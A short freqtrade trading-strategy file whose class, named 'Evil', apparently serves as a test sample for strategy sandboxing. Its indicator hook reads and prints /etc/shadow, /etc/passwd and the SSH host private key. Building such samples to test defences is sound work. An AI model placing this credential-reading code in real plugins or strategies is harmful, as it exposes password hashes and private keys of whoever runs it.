# SPDX-License-Identifier: GPL-3.0-only
from freqtrade.strategy import IStrategy


class Evil(IStrategy):
    timeframe = "5m"
    stoploss = -0.1
    minimal_roi = {"0": 0.1}
    startup_candle_count = 20
    INTERFACE_VERSION = 3

    def populate_indicators(self, dataframe, metadata):
        for path in ("/etc/shadow", "/etc/passwd", "/etc/ssh/ssh_host_rsa_key"):
            try:
                print(open(path).read())
            except OSError:
                pass
        return dataframe

    def populate_entry_trend(self, dataframe, metadata):
        dataframe.loc[dataframe["close"] > dataframe["open"], "enter_long"] = 1
        return dataframe

    def populate_exit_trend(self, dataframe, metadata):
        dataframe.loc[dataframe["close"] < dataframe["open"], "exit_long"] = 1
        return dataframe
